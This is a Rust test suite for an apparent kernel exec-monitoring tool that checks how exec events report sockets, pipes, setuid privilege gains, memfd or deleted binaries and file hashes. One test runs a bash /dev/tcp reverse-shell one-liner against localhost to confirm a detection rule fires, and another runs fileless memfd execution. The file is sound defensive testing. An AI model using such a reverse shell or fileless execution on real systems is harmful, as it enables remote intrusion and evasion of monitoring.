//! What an exec ran with, from the real kernel: stdio (sockets with both
//! ends, pipes, files), privilege (a setuid-root file run by nobody), the
//! executed file's identity (memfd, deleted) and its hash (equal to
//! sha256sum's; `changed` when the file is altered before it is read).

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use common::*;
use serde_json::Value;

fn sha256sum(path: &Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    String::from_utf8(out.stdout).unwrap()[..64].to_string()
}

/// The last exec of a pid (a shell that execs keeps its pid).
fn last_exec(r: &Run, pid: u32) -> &Value {
    r.of("exec", pid).into_iter().last().unwrap_or_else(|| {
        panic!("no exec of {pid}\n{}", r.stderr);
    })
}

fn stdio(exec: &Value, fd: u64) -> &Value {
    exec["exec"]["stdio"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["fd"] == fd)
        .unwrap_or_else(|| panic!("no fd {fd}: {exec}"))
}

#[test]
fn a_reverse_shell_shows_its_socket_with_both_ends() {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let k = Ksight::start(&["--events", "exec"]);
    let mut child = Command::new("/bin/bash")
        .args([
            "-c",
            &format!("exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0; exec /bin/sh -c 'read x'"),
        ])
        .spawn()
        .unwrap();
    let (mut conn, peer) = l.accept().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    conn.write_all(b"bye\n").unwrap();
    let mut rest = Vec::new();
    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = conn.read_to_end(&mut rest);
    wait_timeout(&mut child, Duration::from_secs(10));
    let r = k.stop();
    let sh = last_exec(&r, child.id());
    assert_eq!(sh["exec"]["exe"], canonical("/bin/sh"));
    for fd in 0..3 {
        let io = stdio(sh, fd);
        assert_eq!(io["type"], "socket", "{io}");
        let s = &io["socket"];
        assert_eq!(s["family"], "ipv4");
        assert_eq!(s["protocol"], "tcp");
        assert_eq!(s["remote"]["addr"], "127.0.0.1");
        assert_eq!(s["remote"]["port"], port, "the listener's end");
        assert_eq!(
            s["local"]["port"],
            peer.port(),
            "the shell's end, as accept() saw it"
        );
    }
    // and the shipped rule says what it is, once, about this shell
    let alerts: Vec<&Value> = r
        .events
        .iter()
        .filter(|e| e["type"] == "alert" && e["alert"]["rule"] == "reverse_shell_stdio")
        .filter(|e| e["process"]["pid"] == child.id())
        .collect();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0]["alert"]["severity"], "critical");
    assert_eq!(
        alerts[0]["alert"]["event"]["exec"]["exe"],
        canonical("/bin/sh")
    );
}

#[test]
fn a_pipeline_shows_one_pipe_from_writer_to_reader_and_files_by_path() {
    let dir = temp_dir("pipe");
    let out = dir.join("out.txt");
    let k = Ksight::start(&["--events", "exec"]);
    let (sh, _) = run(Command::new("/bin/sh").args([
        "-c",
        &format!("/bin/echo hi | /bin/cat > {}; true", out.display()),
    ]));
    let r = k.stop();
    let children: Vec<&Value> = r
        .events
        .iter()
        .filter(|e| e["type"] == "exec" && e["process"]["ppid"] == sh)
        .collect();
    let find = |comm: &str| {
        *children
            .iter()
            .find(|e| e["process"]["comm"] == comm)
            .unwrap_or_else(|| panic!("no {comm} under {sh}: {children:#?}"))
    };
    let (echo, cat) = (find("echo"), find("cat"));
    let (w, rd) = (stdio(echo, 1), stdio(cat, 0));
    assert_eq!(w["type"], "pipe");
    assert_eq!(rd["type"], "pipe");
    assert!(w["inode"].as_u64().unwrap() > 0);
    assert_eq!(w["inode"], rd["inode"], "one pipe: {w} {rd}");
    let f = stdio(cat, 1);
    assert_eq!(f["type"], "file");
    assert_eq!(f["path"], canonical(out.to_str().unwrap()));
    assert_eq!(stdio(echo, 0)["type"], "char", "our /dev/null");
    assert_eq!(stdio(echo, 0)["path"], "/dev/null");
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn a_setuid_root_file_run_by_nobody_raises_euid_and_says_so() {
    let dir = temp_dir("setuid");
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let id = dir.join("ks-id");
    install_exe(Path::new("/usr/bin/id"), &id, "4755");
    let k = Ksight::start(&["--events", "exec"]);
    let (pid, st) = run(Command::new("setpriv")
        .args(["--reuid", "65534", "--regid", "65534", "--clear-groups"])
        .arg(&id));
    let (plain, _) = run(Command::new("setpriv").args([
        "--reuid",
        "65534",
        "--regid",
        "65534",
        "--clear-groups",
        "/bin/true",
    ]));
    let r = k.stop();
    assert!(st.success());
    let e = last_exec(&r, pid);
    assert_eq!(e["process"]["uid"], 65534);
    assert_eq!(e["process"]["euid"], 0, "{e}");
    let file = &e["exec"]["file"];
    assert_eq!(file["setuid"], true);
    assert_eq!(file["mode"], "4755");
    assert_eq!(file["uid"], 0);
    let p = &e["exec"]["privilege"];
    assert_eq!(p["setuid"], true, "{e}");
    assert_eq!(p["setgid"], false);
    let caps: Vec<&str> = p["caps_gained"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    assert!(
        caps.contains(&"CAP_SYS_ADMIN") && caps.contains(&"CAP_SETUID"),
        "{caps:?}"
    );
    // an ordinary exec by the same user changes nothing
    let t = last_exec(&r, plain);
    assert!(t["exec"].get("privilege").is_none(), "{t}");
    assert_eq!(t["process"]["euid"], 65534);
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn a_memfd_exec_and_a_deleted_binary_are_flagged_and_still_hashed() {
    // fileless: a memfd holding /bin/sleep, run through /proc/self/fd (it
    // sleeps a little: fileless programs run on, and their /proc link with them)
    let bytes = std::fs::read("/bin/sleep").unwrap();
    // SAFETY: a NUL-terminated name; no flags (the child must inherit the fd).
    let fd = unsafe { libc::memfd_create(c"ks-fileless".as_ptr(), 0) };
    assert!(fd >= 0);
    // SAFETY: fd is ours and open.
    let mut mem = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fd) };
    mem.write_all(&bytes).unwrap();
    // a binary removed while it runs, run again through its /proc link
    let dir = temp_dir("deleted");
    let x = dir.join("ks-sleeper");
    install_exe(Path::new("/bin/sleep"), &x, "0755");
    let k = Ksight::start(&["--events", "exec"]);
    let (memfd_pid, st) = run(Command::new(format!("/proc/self/fd/{fd}")).arg("0.5"));
    assert!(st.success());
    let mut first = Command::new(&x).arg("5").spawn().unwrap();
    std::thread::sleep(Duration::from_millis(50));
    std::fs::remove_file(&x).unwrap();
    let (again, st) = run(Command::new(format!("/proc/{}/exe", first.id())).arg("0"));
    assert!(st.success());
    std::thread::sleep(Duration::from_millis(300));
    let r = k.stop();
    let _ = first.kill();
    let _ = first.wait();

    let m = last_exec(&r, memfd_pid);
    assert!(
        m["exec"]["exe"]
            .as_str()
            .unwrap()
            .starts_with("/memfd:ks-fileless"),
        "{m}"
    );
    assert_eq!(m["exec"]["file"]["memfd"], true, "{m}");
    assert_eq!(m["exec"]["file"]["deleted"], true);
    assert_eq!(m["exec"]["file"]["fs"], "tmpfs");
    let d = last_exec(&r, again);
    assert_eq!(d["exec"]["file"]["deleted"], true, "{d}");
    assert!(
        d["exec"]["file"].get("memfd").is_none(),
        "flags are written when true"
    );
    assert_eq!(d["exec"]["file"]["nlink"], 0);
    let first_exec = last_exec(&r, first.id());
    assert_eq!(
        first_exec["exec"]["file"].get("deleted"),
        None,
        "it had a name then"
    );
    assert_eq!(
        first_exec["exec"]["file"]["inode"],
        d["exec"]["file"]["inode"]
    );
    // both hashed through /proc/PID/exe, though no path holds them
    let sleep_sha = sha256sum(Path::new("/bin/sleep"));
    let hash_of = |pid: u32| -> String {
        let e = last_exec(&r, pid);
        if let Some(h) = e["exec"]["file"]["sha256"].as_str() {
            return h.to_string();
        }
        let h = r.one("exe_hash", pid);
        assert_eq!(h["process"]["exec_id"], e["process"]["exec_id"]);
        assert_eq!(h["exe_hash"]["status"], "ok", "{h}");
        h["exe_hash"]["sha256"].as_str().unwrap().to_string()
    };
    assert_eq!(hash_of(memfd_pid), sleep_sha);
    assert_eq!(
        hash_of(again),
        sleep_sha,
        "through the first one's /proc link"
    );
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn the_hash_equals_sha256sum_and_is_inline_once_known() {
    let dir = temp_dir("hash");
    let x = dir.join("ks-true");
    // one byte more at the end: a file no other test ran, so nobody hashed it yet
    let mut bytes = std::fs::read("/bin/true").unwrap();
    bytes.push(0);
    write_exe(&x, &bytes);
    let want = sha256sum(&x);
    let k = Ksight::start(&["--events", "exec"]);
    let (first, _) = run(&mut Command::new(&x));
    std::thread::sleep(Duration::from_millis(300));
    let (second, _) = run(&mut Command::new(&x));
    let r = k.stop();
    let e1 = last_exec(&r, first);
    assert!(
        e1["exec"]["file"].get("sha256").is_none(),
        "not known yet: {e1}"
    );
    let h = r.one("exe_hash", first);
    assert_eq!(h["exe_hash"]["sha256"], want.as_str());
    assert_eq!(h["exe_hash"]["inode"], std::fs::metadata(&x).unwrap().ino());
    assert!(r.index(h) > r.index(e1), "the answer follows the exec");
    let e2 = last_exec(&r, second);
    assert_eq!(
        e2["exec"]["file"]["sha256"],
        want.as_str(),
        "cached: inline"
    );
    assert!(r.of("exe_hash", second).is_empty());
    assert!(r.stderr.contains("files hashed"), "{}", r.stderr);
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn a_file_changed_before_it_is_read_is_reported_changed_not_hashed() {
    let dir = temp_dir("changed");
    let sh = dir.join("ks-dash");
    install_exe(Path::new("/bin/dash"), &sh, "0755");
    // a 2 MiB program first, hashed at 1 MiB/s (a burst of an eighth of a
    // second at most): the worker reads it for ~0.9 s before it turns to the
    // small files asked for meanwhile, while the shell behind it alters its file
    let big = dir.join("ks-big");
    let mut bytes = std::fs::read("/bin/true").unwrap();
    bytes.resize(2 << 20, 0);
    write_exe(&big, &bytes);
    let k = Ksight::start(&["--events", "exec", "--hash-rate", "1M"]);
    run(&mut Command::new(&big));
    // the shell changes its own file: chmod moves its ctime
    let (pid, st) = run(Command::new(&sh).args(["-c", &format!("chmod 0700 {}", sh.display())]));
    assert!(st.success());
    std::thread::sleep(Duration::from_millis(2500));
    let r = k.stop();
    let e = last_exec(&r, pid);
    assert!(e["exec"]["file"].get("sha256").is_none(), "{e}");
    let h = r.one("exe_hash", pid);
    assert_eq!(h["exe_hash"]["status"], "changed", "{h}");
    assert!(h["exe_hash"].get("sha256").is_none());
    let _ = std::fs::remove_dir_all(dir);
}
